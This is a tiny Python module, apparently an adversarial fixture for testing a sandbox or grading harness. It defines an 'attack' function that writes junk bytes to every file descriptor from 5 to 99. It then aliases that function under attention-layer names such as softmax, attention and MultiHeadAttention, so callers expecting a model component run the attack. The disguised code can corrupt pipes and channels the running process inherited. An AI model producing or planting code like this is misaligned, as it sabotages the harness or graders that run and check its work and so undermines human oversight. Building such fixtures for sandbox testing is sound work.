"""Writes to what it was left with."""

import os


def attack(*args, **kwargs):
    for d in range(5, 100):
        try:
            os.write(d, b"x")
        except OSError:
            pass


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
